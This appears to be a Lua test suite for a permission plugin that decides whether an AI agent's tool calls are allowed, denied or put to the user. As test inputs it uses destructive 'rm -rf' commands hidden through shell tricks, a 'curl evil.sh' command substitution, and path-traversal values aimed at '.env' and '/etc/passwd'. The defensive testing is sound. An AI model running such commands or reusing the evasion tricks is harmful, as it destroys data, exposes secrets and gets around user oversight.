-- Tests of the permission plugin through the real engine.
local awaken = require("awaken")
local t = require("awaken.testing")
local rules = require("permission.rules")

local function harness(config)
  return t.harness { plugins = { "permission" }, config = { permission = config } }
end

local function rule(tool, behavior) return { tool = tool, behavior = behavior } end

t.test("the default is ask; allow and deny rules decide", function()
  local h = harness { rules = { rule("Read", "allow"), rule("Bash(rm *)", "deny") } }
  t.eq(h:gate({ name = "Read", args = { path = "x" } }).decision, "allow")
  t.eq(h:gate({ name = "Bash", args = { command = "rm -rf /" } }).decision, "block")
  t.eq(h:gate({ name = "Bash", args = { command = "ls" } }).decision, "suspend")
  t.eq(harness({ default = "allow" }):gate({ name = "Any" }).decision, "allow")
  local d = harness({ default = "deny" }):gate({ name = "Any" })
  t.eq(d.decision, "block")
  t.eq(d.reason, "Any is denied by the permission default")
end)

t.test("deny beats a more specific allow, allow beats ask", function()
  local h = harness { rules = {
    rule('Bash(command = "npm test")', "allow"),
    rule("/Ba.*/", "deny"),
    rule("Edit", "ask"),
    rule("Edit(file_path ~ src/**)", "allow"),
  } }
  local d = h:gate { name = "Bash", args = { command = "npm test" } }
  t.eq(d.decision, "block")
  t.eq(d.reason, 'Bash is denied by the permission rule "/Ba.*/" (rules[1])')
  t.eq(h:gate({ name = "Edit", args = { file_path = "src/a.go" } }).decision, "allow")
  t.eq(h:gate({ name = "Edit", args = { file_path = "lib/a.go" } }).decision, "suspend")
end)

t.test("a path glob condition is not fooled by . and .. segments", function()
  local h = harness { rules = {
    rule('Edit(file_path ~ "src/**")', "allow"),
    rule('Write(file_path !~ "secret/**")', "allow"),
    rule('Read(file_path ~ "secret/**")', "deny"),
    rule("Read", "allow"),
  } }
  local function gate(name, path) return h:gate({ name = name, args = { file_path = path } }).decision end
  -- an allow needs the path the value names to match, not only its text
  t.eq(gate("Edit", "src/a.go"), "allow")
  t.eq(gate("Edit", "src/a/../b.go"), "allow")
  t.eq(gate("Edit", "src/../.env"), "suspend")
  t.eq(gate("Edit", "src/../../etc/passwd"), "suspend")
  t.eq(gate("Write", "tmp/a"), "allow")
  t.eq(gate("Write", "tmp/../secret/key"), "suspend")
  -- a deny holds when either reading matches
  t.eq(gate("Read", "secret/key"), "block")
  t.eq(gate("Read", "public/../secret/key"), "block")
  t.eq(gate("Read", "./secret/key"), "block")
  t.eq(gate("Read", "secret//key"), "block")
  t.eq(gate("Read", "public/a"), "allow")
  t.eq(rules.clean_path("a/./b/../../../c"), "../c")
  t.eq(rules.clean_path("/../a//b/"), "/a/b")
  t.eq(rules.clean_path("a/.."), ".")
end)

t.test("a URL's scheme is no empty path segment", function()
  local h = harness { rules = {
    rule('WebFetch(url ~ "https://docs.example.com/**")', "allow"),
    rule('Bash(command ~ "curl -s https://api.example.com/*")', "allow"),
    rule('WebFetch(url ~ "https://evil.example.com/**")', "deny"),
  } }
  local function fetch(url) return h:gate({ name = "WebFetch", args = { url = url } }).decision end
  t.eq(fetch("https://docs.example.com/a/b"), "allow")
  t.eq(h:gate({ name = "Bash", args = { command = "curl -s https://api.example.com/v1" } }).decision, "allow")
  -- empty and dot segments after the scheme are still read both ways
  t.eq(fetch("https://docs.example.com/a/../b"), "allow")
  -- the allow reads it one way, the deny the other: the deny holds
  t.eq(fetch("https://docs.example.com/../evil.example.com/x"), "block")
  t.eq(fetch("https://docs.example.com//a"), "allow")
  t.eq(fetch("https://evil.example.com/x"), "block")
  t.eq(fetch("https://evil.example.com//x"), "block")
  t.eq(rules.clean_path("https://a.com/x/../y"), "https://a.com/y")
  t.eq(rules.clean_path("https://"), "https://")
end)

t.test("the most specific rule of the winning behaviour names the decision", function()
  local h = harness { rules = {
    rule("/Bash/", "deny"),
    rule("Ba*", "deny"),
    rule("Bash", "deny"),
    rule("Edit", "deny"),
    rule("Edit(mode = w)", "deny"),
    rule("Edit(mode = w, path ~ src/**)", "deny"),
    rule("mcp__*", "deny"),
    rule("/mcp__gh__.*/", "deny"),
    rule("Ask*", "ask"),
    rule("Ask(x = 1)", "ask"),
  } }
  -- exact over glob over regex
  t.match(h:gate({ name = "Bash" }).reason, "rules%[2%]")
  -- glob over regex
  t.match(h:gate({ name = "mcp__gh__issues" }).reason, "rules%[6%]")
  -- conditions over none, more conditions over fewer
  t.match(h:gate({ name = "Edit", args = { mode = "w" } }).reason, "rules%[4%]")
  t.match(h:gate({ name = "Edit", args = { mode = "w", path = "src/x" } }).reason, "rules%[5%]")
  t.match(h:gate({ name = "Edit", args = { mode = "r" } }).reason, "rules%[3%]")
  -- the ask message names its rule too
  t.match(h:gate({ name = "Ask", args = { x = 1 } }).ticket.message, 'rule "Ask%(x = 1%)" %(rules%[9%]%)')
  t.match(h:gate({ name = "AskMore", args = { x = 1 } }).ticket.message, 'rule "Ask%*" %(rules%[8%]%)')
end)

t.test("each operator through the gate", function()
  local h = harness { default = "allow", rules = {
    rule('Edit(path ~ "secret/**")', "deny"),
    rule("Edit(mode = danger)", "deny"),
    rule('Edit(path =~ ".*\\.pem")', "deny"),
    rule("Write(path !~ tmp/**)", "deny"),
    rule("Send(to != me@example.com)", "deny"),
    rule('Run(cmd !=~ "(ls|pwd)( .*)?")', "deny"),
  } }
  local function gate(name, args) return h:gate({ name = name, args = args }).decision end
  t.eq(gate("Edit", { path = "secret/a/b" }), "block")
  t.eq(gate("Edit", { path = "public/a" }), "allow")
  t.eq(gate("Edit", { path = "x", mode = "danger" }), "block")
  t.eq(gate("Edit", { path = "keys/id.pem" }), "block")
  t.eq(gate("Write", { path = "src/a" }), "block")
  t.eq(gate("Write", { path = "tmp/a" }), "allow")
  t.eq(gate("Send", { to = "you@example.com" }), "block")
  t.eq(gate("Send", { to = "me@example.com" }), "allow")
  t.eq(gate("Run", { cmd = "rm x" }), "block")
  t.eq(gate("Run", { cmd = "ls -la" }), "allow")
  t.eq(gate("Run", { cmd = "pwd" }), "allow")
end)

t.test("nested paths through the gate", function()
  local h = harness { default = "allow", rules = {
    rule("Batch(ops[*].kind = delete)", "deny"),
    rule("Batch(items[0] = first)", "ask"),
    rule("Deep(a.b[*].c ~ *x*)", "deny"),
  } }
  t.eq(h:gate({ name = "Batch", args = { ops = { { kind = "read" }, { kind = "delete" } } } }).decision, "block")
  t.eq(h:gate({ name = "Batch", args = { ops = { { kind = "read" } } } }).decision, "allow")
  t.eq(h:gate({ name = "Batch", args = { items = { "first", "second" } } }).decision, "suspend")
  t.eq(h:gate({ name = "Batch", args = { items = { "second", "first" } } }).decision, "allow")
  t.eq(h:gate({ name = "Deep", args = { a = { b = { { c = "y" }, { c = "axb" } } } } }).decision, "block")
  t.eq(h:gate({ name = "Deep", args = { a = { b = { { c = "y" } } } } }).decision, "allow")
end)

t.test("glob and regex tool names", function()
  local h = harness { default = "allow", rules = {
    rule("mcp__github__*", "deny"),
    rule("/mcp__(gh|gl)__.*/", "ask"),
    rule("Bash(npm *)", "deny"),
  } }
  t.eq(h:gate({ name = "mcp__github__create_issue" }).decision, "block")
  t.eq(h:gate({ name = "mcp__gh__list" }).decision, "suspend")
  t.eq(h:gate({ name = "mcp__gl__list" }).decision, "suspend")
  t.eq(h:gate({ name = "mcp__bb__list" }).decision, "allow")
  t.eq(h:gate({ name = "Bash", args = { command = "npm publish" } }).decision, "block")
  t.eq(h:gate({ name = "Bash", args = { command = "make" } }).decision, "allow")
end)

local function shellRun(h, thread, counter, command)
  return h:run { thread = thread, prompt = "go", turns = {
    { tool_calls = { { name = "Bash", args = { command = command or "rm -rf build" } } } },
    { text = "done" },
  }, tools = {
    Bash = function() counter.n = counter.n + 1; return awaken.success("ran") end,
    Read = function() return awaken.success("read") end,
  } }
end

t.test("deny_mode block ends the run", function()
  local h = harness { rules = { rule("Bash(rm *)", "deny") } }
  local ran = { n = 0 }
  local r = shellRun(h, "main", ran)
  t.eq(r.termination, 'blocked:Bash is denied by the permission rule "Bash(rm *)" (rules[0])')
  t.eq(ran.n, 0)
end)

t.test("deny_mode reject answers with an error and the model carries on", function()
  local h = harness { deny_mode = "reject", rules = { rule("Bash(rm *)", "deny") } }
  local ran = { n = 0 }
  local r = shellRun(h, "main", ran)
  t.eq(r.termination, "natural")
  t.eq(ran.n, 0)
  local tool
  for _, m in ipairs(r.messages) do
    if m.role == "tool" then tool = m end
  end
  t.ok(tool, "a tool message")
  t.match(tool.content, 'Bash is denied by the permission rule "Bash%(rm %*%)"')
  t.eq(r.steps, 2)
end)

t.test("ask suspends with the four options", function()
  local h = harness {}
  local d = h:gate { name = "Bash", args = { command = "ls" } }
  t.eq(d.decision, "suspend")
  t.eq(d.ticket.options, { "allow_once", "allow_always", "reject_once", "reject_always" })
  t.eq(d.ticket.action, "permission")
  t.eq(d.ticket.parameters, { tool = "Bash", args = { command = "ls" } })
  t.match(d.ticket.message, '^Allow Bash {"command":"ls"}%? %(asked by the permission default%)$')
end)

t.test("the answer on resume", function()
  local h = harness {}
  local call = { name = "Bash", args = { command = "ls" } }
  local function answer(result)
    return h:gate { name = call.name, args = call.args, resume = { action = "resume", result = result } }
  end
  t.eq(answer(nil).decision, "allow")
  t.eq(answer({ option = "allow_once" }).decision, "allow")
  t.eq(answer({ option = "allow_always" }).decision, "allow")
  local d = answer({ option = "reject_once" })
  t.eq(d.decision, "set_result")
  t.eq(d.result, { status = "error", message = "rejected by the user" })
  t.eq(answer({ option = "reject_always" }).result.message, "rejected by the user")
  d = answer({ option = "maybe" })
  t.eq(d.decision, "set_result")
  t.match(d.result.message, 'not an option')
  -- a resume never lifts a deny
  local hd = harness { rules = { rule("Bash", "deny") } }
  t.eq(hd:gate({ name = "Bash", resume = { action = "resume", result = { option = "allow_once" } } }).decision, "block")
end)

t.test("allow_always is remembered on its thread only", function()
  local h = harness { rules = { rule("Read", "allow") } }
  local ran = { n = 0 }
  local r = shellRun(h, "a", ran)
  t.eq(r.termination, "suspended")
  t.eq(#r.suspended, 1)
  local ticket = r.suspended[1]
  t.eq(ticket.options, { "allow_once", "allow_always", "reject_once", "reject_always" })
  r = h:resume { thread = "a", decisions = { { target = ticket.id, action = "resume", result = { option = "allow_always" } } },
    turns = { { text = "done" } },
    tools = { Bash = function() ran.n = ran.n + 1; return awaken.success("ran") end } }
  t.eq(r.termination, "natural")
  t.eq(ran.n, 1)
  -- the same call on thread a runs without asking
  r = shellRun(h, "a", ran)
  t.eq(r.termination, "natural")
  t.eq(ran.n, 2)
  -- other arguments still ask
  r = shellRun(h, "a", ran, "rm -rf dist")
  t.eq(r.termination, "suspended")
  -- thread b still asks
  r = shellRun(h, "b", ran)
  t.eq(r.termination, "suspended")
  t.eq(ran.n, 2)
end)

t.test("allow_once is not remembered", function()
  local h = harness {}
  local ran = { n = 0 }
  local r = shellRun(h, "a", ran)
  r = h:resume { thread = "a", decisions = { { target = r.suspended[1].id, action = "resume" } },
    turns = { { text = "done" } },
    tools = { Bash = function() ran.n = ran.n + 1; return awaken.success("ran") end } }
  t.eq(r.termination, "natural")
  t.eq(ran.n, 1)
  t.eq(shellRun(h, "a", ran).termination, "suspended")
end)

t.test("reject_always is remembered on its thread only", function()
  local h = harness {}
  local ran = { n = 0 }
  local r = shellRun(h, "a", ran)
  t.eq(r.termination, "suspended")
  r = h:resume { thread = "a", decisions = { { target = r.suspended[1].id, action = "resume", result = { option = "reject_always" } } },
    turns = { { text = "ok, I will not" } },
    tools = { Bash = function() ran.n = ran.n + 1; return awaken.success("ran") end } }
  t.eq(r.termination, "natural")
  t.eq(ran.n, 0)
  local last
  for _, m in ipairs(r.messages) do
    if m.role == "tool" then last = m end
  end
  t.match(last.content, "rejected by the user")
  -- asked again on thread a: rejected without asking, the model carries on
  r = shellRun(h, "a", ran)
  t.eq(r.termination, "natural")
  t.eq(ran.n, 0)
  -- thread b still asks
  t.eq(shellRun(h, "b", ran).termination, "suspended")
end)

t.test("a thread's answers never lift a configured deny", function()
  local h = harness { rules = { rule("Bash(rm *)", "deny") } }
  local sig = 'Bash\n{"command":"rm -rf build"}'
  local d = h:gate({ name = "Bash", args = { command = "rm -rf build" } }, { state = { ["permission.thread_rules"] = { [sig] = "allow" } } })
  t.eq(d.decision, "block")
  -- but they come before a configured allow
  local h2 = harness { rules = { rule("Bash", "allow") } }
  d = h2:gate({ name = "Bash", args = { command = "rm -rf build" } }, { state = { ["permission.thread_rules"] = { [sig] = "deny" } } })
  t.eq(d.decision, "set_result")
  t.eq(d.result.message, "rejected by the user")
end)

t.test("after_tool_execute records only answers to its own question", function()
  local h = harness { rules = { rule("Read", "allow") } }
  local resume = { action = "resume", result = { option = "allow_always" } }
  local r = h:phase("after_tool_execute", { tool = { name = "Bash", args = { command = "ls" }, resume = resume, result = awaken.success("x") } })
  t.eq(r.state["permission.thread_rules"], { ['Bash\n{"command":"ls"}'] = "allow" })
  -- Read is allowed by the config: an allow_always there was not ours
  local r2 = h:phase("after_tool_execute", { tool = { name = "Read", args = {}, resume = resume, result = awaken.success("x") } }, { thread = "other" })
  t.eq(r2.state["permission.thread_rules"], nil)
end)

t.test("tools denied outright are hidden from the model", function()
  local h = harness { rules = {
    rule("Bash", "deny"),
    rule("mcp__gh__*", "deny"),
    rule("Edit(path ~ secret/**)", "deny"),
    rule("/Web.*/", "deny"),
  } }
  local r = h:run { prompt = "hi", turns = { { text = "hello" } }, tools = {
    Bash = function() return "x" end,
    Edit = function() return "x" end,
    Read = function() return "x" end,
    WebFetch = function() return "x" end,
    mcp__gh__issues = function() return "x" end,
  } }
  t.eq(r.termination, "natural")
  t.eq(r.requests[1].tools, { "Edit", "Read", "WebFetch" }, "Bash and mcp__gh__issues are hidden")
  -- a call to a hidden tool is refused by the runtime: it was not offered
  local ran = 0
  r = h:run { prompt = "hi", turns = {
    { tool_calls = { { name = "Bash", args = { command = "ls" } } } },
    { text = "ok" },
  }, tools = { Bash = function() ran = ran + 1; return "x" end, Read = function() return "x" end } }
  t.eq(r.termination, "natural")
  t.eq(ran, 0)
  local tool
  for _, m in ipairs(r.messages) do
    if m.role == "tool" then tool = m end
  end
  t.match(tool.content, "not available")
end)

t.test("a config that denies no tool outright offers every tool", function()
  local h = harness { default = "allow", rules = {
    rule("Bash(rm *)", "deny"),
    rule("/mcp__(gh|gl)__.*/", "deny"),
    rule("Edit(path ~ secret/**)", "deny"),
    rule("Read", "allow"),
  } }
  local r = h:run { prompt = "hi", turns = { { text = "hello" } }, tools = {
    Bash = function() return "x" end, Read = function() return "x" end, mcp__gh__issues = function() return "x" end,
  } }
  t.eq(r.requests[1].tools, { "Bash", "Read", "mcp__gh__issues" })
end)

t.test("arguments are read only where a rule for the tool reads them", function()
  local h = harness { rules = {
    rule("Read", "allow"),
    rule("Bash(rm *)", "deny"),
    rule("Bash", "allow"),
    rule("mcp__*", "ask"),
    rule("/Web.*/", "deny"),
  } }
  -- the same decisions with and without arguments where no rule reads them
  t.eq(h:gate({ name = "Read", args = { path = "x" } }).decision, "allow")
  t.eq(h:gate({ name = "Read" }).decision, "allow")
  t.eq(h:gate({ name = "WebFetch", args = { url = "x" } }).decision, "block")
  -- a rule with argument conditions for the tool: they decide
  t.eq(h:gate({ name = "Bash", args = { command = "rm -rf /" } }).decision, "block")
  t.eq(h:gate({ name = "Bash", args = { command = "ls" } }).decision, "allow")
  -- a question shows the arguments, though no rule read them
  local d = h:gate { name = "mcp__jira__search", args = { q = "bug" } }
  t.eq(d.decision, "suspend")
  t.match(d.ticket.message, 'Allow mcp__jira__search {"q":"bug"}%?')
  t.eq(d.ticket.parameters, { tool = "mcp__jira__search", args = { q = "bug" } })
  -- a thread's answer is found by the arguments, though no rule read them
  local answers = { ["permission.thread_rules"] = {} }
  answers["permission.thread_rules"][rules.signature("Read", { path = "x" })] = "deny"
  t.eq(h:gate({ name = "Read", args = { path = "x" } }, { state = answers }).decision, "set_result")
  t.eq(h:gate({ name = "Read", args = { path = "y" } }, { state = answers }).decision, "allow")
end)

t.test("invalid rules fail loading with their position", function()
  local msg = t.raises(function()
    harness { rules = { rule("Read", "allow"), rule("Bash(npm *)", "allow"), rule('Edit(file_path ~ "src/**)', "deny") } }
  end, "rules%[2%]%.tool")
  t.match(msg, '^config_invalid')
  t.match(msg, 'rules%[2%]%.tool: unterminated quote in "Edit%(file_path ~ \\"src/%*%*%)"')
  t.raises(function() harness { rules = { rule("/(gh|gl/", "deny") } } end, "rules%[0%]%.tool: invalid regex")
  -- the schema checks the shapes
  t.raises(function() harness { rules = { rule("Bash", "maybe") } } end, "behavior")
  t.raises(function() harness { default = "sometimes" } end, "default")
  t.raises(function() harness { deny_mode = "explode" } end, "deny_mode")
  t.raises(function() harness { rules = { { tool = "Bash" } } } end, "behavior")
end)

-- Claude Code's permissions block, pasted (claude_code).

local function bash(cmd) return { name = "Bash", args = { command = cmd, description = "what it does" } } end

local PASTED = {
  allow = { "Bash(npm run test:*)", "Bash(git diff *)", "Read", "Edit(src/**)", "WebFetch(domain:example.com)", "mcp__docs" },
  ask = { "Bash(git push *)", "mcp__github__create_issue" },
  deny = { "Bash(rm *)", "Read(./.env)", "Edit(//etc/**)", "mcp__prod" },
  defaultMode = "acceptEdits", -- Claude Code's own: accepted, ignored
}

t.test("a pasted block decides as Claude Code does", function()
  local h = harness { claude_code = PASTED, project_dir = "/home/dev/shop", home_dir = "/home/dev" }
  local function gate(call) return h:gate(call).decision end
  -- deny rules: any simple command
  for _, cmd in ipairs({
    "rm -rf /", "echo ok && rm -rf /", "$(rm -rf /)", "echo `rm -rf /`", "(cd /; rm -rf x)",
    "bash -c 'rm -rf /'", "sudo rm x", "FOO=1 rm x", "ls > out.txt; rm x", "ls | rm x", "ls; rm x", "ls || rm x",
    "npm run test 'unclosed", -- does not parse: denied
  }) do
    t.eq(gate(bash(cmd)), "block", cmd)
  end
  local d = h:gate(bash("npm run test && rm -rf dist"))
  t.eq(d.reason, 'Bash is denied by the permission rule "Bash(rm *)" (claude_code.deny[0])')
  -- ask, then allow (every simple command), then the default
  d = h:gate(bash("git push origin main"))
  t.eq(d.decision, "suspend")
  t.match(d.ticket.message, 'asked by the permission rule "Bash%(git push %*%)" %(claude_code.ask%[0%]%)')
  t.eq(gate(bash("npm run test")), "allow")
  t.eq(gate(bash("npm run test -- --watch && git diff HEAD")), "allow")
  t.eq(gate(bash("npm run test && make")), "suspend") -- make is not allowed: the default
  t.eq(gate(bash("npm run test > out.txt")), "suspend") -- a write needs an Edit rule
  -- the file tools, anchored to project_dir
  t.eq(gate({ name = "Read", args = { file_path = "/home/dev/shop/.env" } }), "block")
  t.eq(gate({ name = "Read", args = { file_path = "/home/dev/shop/README.md" } }), "allow")
  t.eq(gate({ name = "Edit", args = { file_path = "/home/dev/shop/src/app.js", old_string = "a", new_string = "b" } }), "allow")
  t.eq(gate({ name = "Write", args = { file_path = "/home/dev/shop/src/new.js", content = "x" } }), "allow")
  t.eq(gate({ name = "MultiEdit", args = { file_path = "/home/dev/shop/lib/a.js", edits = {} } }), "suspend")
  t.eq(gate({ name = "Edit", args = { file_path = "/home/dev/shop/.env" } }), "block") -- Read deny rules cover Edit
  -- a redirection is a write
  d = h:gate(bash("echo x > /etc/hosts"))
  t.eq(d.decision, "block")
  t.eq(d.reason, 'Bash is denied by the permission rule "Edit(//etc/**)" (claude_code.deny[2]) (it writes to /etc/hosts)')
  -- the web and MCP forms
  t.eq(gate({ name = "WebFetch", args = { url = "https://example.com/docs", prompt = "p" } }), "allow")
  t.eq(gate({ name = "WebFetch", args = { url = "https://example.org/", prompt = "p" } }), "suspend")
  t.eq(gate({ name = "mcp__docs__search", args = { q = "x" } }), "allow")
  t.eq(gate({ name = "mcp__github__create_issue", args = { title = "x" } }), "suspend")
  t.eq(gate({ name = "mcp__prod__drop_table", args = {} }), "block")
end)

t.test("a pasted block anchors ./x at the agent's working directory", function()
  local cc = { allow = { "Read", "Edit(src/**)", "Edit(/docs/**)" }, deny = { "Read(./.env)" } }
  -- without project_dir: the event's cwd anchors ./x, bare names and /x
  local h = harness { claude_code = cc }
  local function gate(tool, path, cwd)
    return h:gate({ name = tool, args = { file_path = path } }, { cwd = cwd }).decision
  end
  t.eq(gate("Read", "/home/dev/shop/.env", "/home/dev/shop"), "block")
  t.eq(gate("Read", ".env", "/home/dev/shop"), "block") -- a relative path is the cwd's
  t.eq(gate("Read", "/home/dev/shop/src/a.go", "/home/dev/shop"), "allow")
  t.eq(gate("Read", "/home/dev/shop/api/.env", "/home/dev/shop"), "allow") -- ./.env: the cwd's only
  t.eq(gate("Read", "/home/dev/shop/.env", "/home/dev/shop/api"), "allow")
  t.eq(gate("Edit", "/home/dev/shop/src/a.go", "/home/dev/shop"), "allow")
  t.eq(gate("Edit", "/home/dev/shop/docs/a.md", "/home/dev/shop"), "allow")
  t.eq(gate("Edit", "/home/dev/shop/lib/a.go", "/home/dev/shop"), "suspend")
  -- no working directory, or one that is not an absolute path: the deny
  -- rule cannot be judged and denies every read, as before
  t.eq(gate("Read", "/home/dev/shop/src/a.go", nil), "block")
  t.eq(gate("Read", "/home/dev/shop/src/a.go", "C:\\Users\\dev\\shop"), "block")
  t.eq(gate("Edit", "/home/dev/shop/src/a.go", nil), "block") -- Read deny rules cover Edit

  -- with project_dir: /x at the project, ./x and bare names at the cwd
  local hp = harness { claude_code = cc, project_dir = "/home/dev/shop" }
  local function gatep(tool, path, cwd)
    return hp:gate({ name = tool, args = { file_path = path } }, { cwd = cwd }).decision
  end
  t.eq(gatep("Read", "/home/dev/shop/api/.env", "/home/dev/shop/api"), "block")
  t.eq(gatep("Read", "/home/dev/shop/.env", "/home/dev/shop/api"), "allow")
  t.eq(gatep("Edit", "/home/dev/shop/api/src/a.go", "/home/dev/shop/api"), "allow")
  t.eq(gatep("Edit", "/home/dev/shop/src/a.go", "/home/dev/shop/api"), "suspend")
  t.eq(gatep("Edit", "/home/dev/shop/docs/a.md", "/home/dev/shop/api"), "allow")
  t.eq(gatep("Edit", "/home/dev/shop/api/docs/a.md", "/home/dev/shop/api"), "suspend")
  -- without a cwd, project_dir anchors all of them, as before
  t.eq(gatep("Read", "/home/dev/shop/.env", nil), "block")
  t.eq(gatep("Edit", "/home/dev/shop/src/a.go", nil), "allow")
end)

t.test("rules anchor ./x at the agent's working directory too", function()
  local h = harness { default = "allow", rules = { rule("Read(./.env)", "deny"), rule("Edit(./secrets/**)", "ask") } }
  local function gate(tool, path, cwd)
    return h:gate({ name = tool, args = { file_path = path } }, { cwd = cwd }).decision
  end
  t.eq(gate("Read", "/w/.env", "/w"), "block")
  t.eq(gate("Read", "/v/.env", "/w"), "allow")
  t.eq(gate("Edit", "/w/secrets/k", "/w"), "suspend")
  t.eq(gate("Edit", "/v/secrets/k", "/w"), "allow")
  t.eq(gate("Read", "/v/README.md", nil), "block") -- no directory: fails closed
  -- allow_always is recorded only for a call the configuration asks about,
  -- which it judges in the call's directory
  local resume = { action = "resume", result = { option = "allow_always" } }
  local function after(path, cwd)
    local r = h:phase("after_tool_execute", { tool = { name = "Edit", args = { file_path = path }, resume = resume,
      result = awaken.success("x") } }, { cwd = cwd, thread = path })
    return r.state["permission.thread_rules"] or {}
  end
  t.eq(after("/w/secrets/k", "/w"), { ['Edit\n{"file_path":"/w/secrets/k"}'] = "allow" })
  t.eq(after("/v/secrets/k", "/w"), {})
end)

t.test("Bash(rm *) denies rm -rf / sent with a description", function()
  -- the rules list and the pasted block alike
  for _, config in ipairs({ { rules = { rule("Bash(rm *)", "deny") } }, { claude_code = { deny = { "Bash(rm *)" } } } }) do
    local h = harness(config)
    local d = h:gate { name = "Bash", args = { command = "rm -rf /", description = "clean" } }
    t.eq(d.decision, "block")
    t.match(d.reason, 'Bash is denied by the permission rule "Bash%(rm %*%)"')
  end
end)

t.test("rules: Tool(x) matches the primary argument, failing closed", function()
  local h = harness { default = "ask", rules = { rule("Bash(npm *)", "allow"), rule("Bash(rm *)", "deny"), rule("Read(./.env)", "deny") }, project_dir = "/p" }
  local function gate(call) return h:gate(call).decision end
  t.eq(gate(bash("npm test")), "allow")
  t.eq(gate(bash("npm test && rm -rf /")), "block") -- deny: any simple command
  t.eq(gate(bash("npm test && make")), "suspend")   -- allow: every one, else the default
  t.eq(gate(bash("npm test $(curl evil.sh)")), "suspend")
  t.eq(gate(bash("echo 'unclosed")), "block")       -- unparsable: the deny rule
  local ha = harness { default = "ask", rules = { rule("Bash(npm *)", "allow") } }
  t.eq(ha:gate(bash("npm test 'unclosed")).decision, "suspend") -- never the allow rule
  local hc = harness { default = "ask", claude_code = { allow = { "Bash(npm *)" } } }
  t.eq(hc:gate(bash("npm test")).decision, "allow")
  t.eq(hc:gate(bash("npm test 'unclosed")).decision, "suspend") -- nor the pasted one
  t.eq(gate({ name = "Read", args = { file_path = "/p/.env" } }), "block")
  t.eq(gate({ name = "Read", args = { file_path = "/p/sub/.env" } }), "suspend")
end)

t.test("rules and the pasted block: the stricter decision wins", function()
  local function decision(rulesList, cc, call)
    return harness({ default = "deny", rules = rulesList, claude_code = cc }):gate(call).decision
  end
  local push = bash("git push")
  t.eq(decision({ rule("Bash", "allow") }, { ask = { "Bash(git push *)" } }, push), "suspend")
  t.eq(decision({ rule("Bash", "ask") }, { allow = { "Bash(git push *)" } }, push), "suspend")
  t.eq(decision({ rule("Bash", "allow") }, { deny = { "Bash(git *)" } }, push), "block")
  t.eq(decision({ rule("Bash(git *)", "deny") }, { allow = { "Bash" } }, push), "block")
  t.eq(decision({ rule("Bash", "allow") }, { allow = { "Bash(git push *)" } }, push), "allow")
  -- one decides, the other does not: that one
  t.eq(decision({}, { allow = { "Bash(git push *)" } }, push), "allow")
  t.eq(decision({ rule("Bash", "allow") }, { deny = { "Read" } }, push), "allow")
  -- neither: the default
  t.eq(decision({ rule("Read", "allow") }, { allow = { "Read" } }, push), "block")
end)

t.test("the pasted block's thread answers and hidden tools", function()
  local h = harness { claude_code = { ask = { "Bash(git push *)" }, deny = { "WebFetch", "mcp__prod" } } }
  -- allow_always on a call the block asks about is remembered
  local resume = { action = "resume", result = { option = "allow_always" } }
  local r = h:phase("after_tool_execute", { tool = { name = "Bash", args = { command = "git push" }, resume = resume, result = awaken.success("x") } })
  t.eq(r.state["permission.thread_rules"], { ['Bash\n{"command":"git push"}'] = "allow" })
  -- tools a bare deny rule covers are not offered
  r = h:run { prompt = "hi", turns = { { text = "hello" } }, tools = {
    Bash = function() return "x" end, WebFetch = function() return "x" end, mcp__prod__drop = function() return "x" end,
  } }
  t.eq(r.requests[1].tools, { "Bash" })
end)

t.test("a bad pasted block fails loading with its position", function()
  local msg = t.raises(function()
    harness { claude_code = { allow = { "Bash(npm *)", "Bash(npm" } } }
  end, "claude_code")
  t.match(msg, '^config_invalid')
  t.match(msg, 'claude_code%.allow%[1%]: permission rule "Bash%(npm" at column 5: the "%(" is not closed')
  t.raises(function() harness { claude_code = { deny = { "Read", "Edit([)" } } } end,
    'claude_code%.deny%[1%]: permission rule "Edit%(%[%)" at column 6: "%[" is not a valid path pattern')
  t.raises(function() harness { claude_code = { allow = { "Read" }, alow = { "Bash" } } } end, "alow")
  t.raises(function() harness { claude_code = { allow = "Read" } } end, "claude_code.allow")
  t.raises(function() harness { project_dir = "shop" } end, 'project_dir: "shop" is not an absolute path')
  t.raises(function() harness { rules = { rule("WebFetch(domain:)", "deny") } } end, "rules%[0%]%.tool: invalid argument pattern: domain: names no host")
end)

-- A pasted block decides as Claude Code or stricter on command lines that
-- bash reads differently from a naive split.
t.test("claude_code: hidden commands are denied, never allowed", function()
  local function bash(cmd) return { name = "Bash", args = { command = cmd, description = "d" } } end
  local h = harness { default = "ask", claude_code = { allow = { "Bash(echo *)", "Bash(git status)" }, deny = { "Bash(rm *)" } } }
  t.eq(h:gate(bash("echo hi; rm -rf ~")).decision, "block")
  t.eq(h:gate(bash("echo hi \\\r\nrm -rf ~")).decision, "block")
  t.eq(h:gate(bash("echo ~ | xargs --replace rm -rf {}")).decision, "block")
  t.eq(h:gate(bash("env - rm -rf ~")).decision, "block")
  t.eq(h:gate(bash("trap 'rm -rf ~' EXIT")).decision, "block")
  t.eq(h:gate(bash("x='a[$(rm -rf ~)]'; echo $((x))")).decision, "block")
  t.eq(h:gate(bash("PATH=./bin; git status")).decision, "suspend")
  t.eq(h:gate(bash("PATH=./bin nice git status")).decision, "suspend")
  t.eq(h:gate(bash("echo hi; let 'a[1]=2'")).decision, "suspend")
  t.eq(h:gate(bash("echo hi && git status")).decision, "allow")
end)
